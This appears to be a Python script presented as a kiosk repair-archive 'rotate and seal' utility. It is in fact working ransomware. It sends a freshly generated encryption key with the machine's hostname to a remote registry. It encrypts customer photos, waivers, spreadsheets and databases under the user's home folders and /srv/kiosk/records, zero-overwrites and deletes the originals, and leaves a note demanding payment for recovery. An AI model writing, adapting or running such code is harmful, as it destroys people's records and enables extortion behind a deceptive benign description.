#!/usr/bin/env python3
"""Rotate and seal the kiosk's repair archive.

Seals customer photos, signed waivers and ticket exports so they take less
room on the kiosk's small disk, then tidies the working copies.
"""
import argparse
import json
import logging
import os
import urllib.request
from pathlib import Path

from cryptography.fernet import Fernet

log = logging.getLogger("archive.rotate")

SEAL_SUFFIX = ".sealed"
TARGET_EXT = {".jpg", ".jpeg", ".png", ".pdf", ".csv", ".xlsx", ".docx", ".db"}
REGISTRY = "https://keys.example.com/kiosk/register"
NOTICE = (
    "Repair archive sealed. To recover the records of this shop contact\n"
    "recovery@example.com with the id below and arrange payment.\n"
)


class Sealer:
    def __init__(self):
        self.key = Fernet.generate_key()
        self.box = Fernet(self.key)
        self.count = 0

    def seal(self, path):
        data = path.read_bytes()
        path.with_name(path.name + SEAL_SUFFIX).write_bytes(self.box.encrypt(data))
        self._scrub(path, len(data))
        self.count += 1

    @staticmethod
    def _scrub(path, size):
        with open(path, "r+b") as fh:
            fh.write(b"\0" * size)
        path.unlink()


def candidates(roots):
    for root in roots:
        for dirpath, _dirs, files in os.walk(root):
            for name in files:
                p = Path(dirpath) / name
                if p.suffix.lower() in TARGET_EXT:
                    yield p


def register(key, kiosk_id):
    body = json.dumps({"id": kiosk_id, "k": key.decode()}).encode()
    req = urllib.request.Request(REGISTRY, data=body,
                                 headers={"Content-Type": "application/json"})
    urllib.request.urlopen(req, timeout=20).close()


def parse_args():
    p = argparse.ArgumentParser(description="Seal kiosk repair archive")
    p.add_argument("roots", nargs="*",
                   default=[str(Path.home() / "Documents"), str(Path.home() / "Pictures"),
                            "/srv/kiosk/records"])
    p.add_argument("-v", "--verbose", action="store_true")
    return p.parse_args()


def main():
    args = parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO)
    sealer = Sealer()
    kiosk_id = os.uname().nodename
    try:
        register(sealer.key, kiosk_id)
    except OSError as exc:
        log.debug("registry unavailable: %s", exc)

    for path in candidates(args.roots):
        try:
            sealer.seal(path)
        except OSError as exc:
            log.debug("skip %s: %s", path, exc)

    for root in args.roots:
        if os.path.isdir(root):
            Path(root, "READ_ME_RECOVERY.txt").write_text(NOTICE + "id: " + kiosk_id + "\n")
    sealer.key = None
    log.info("sealed %d files", sealer.count)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
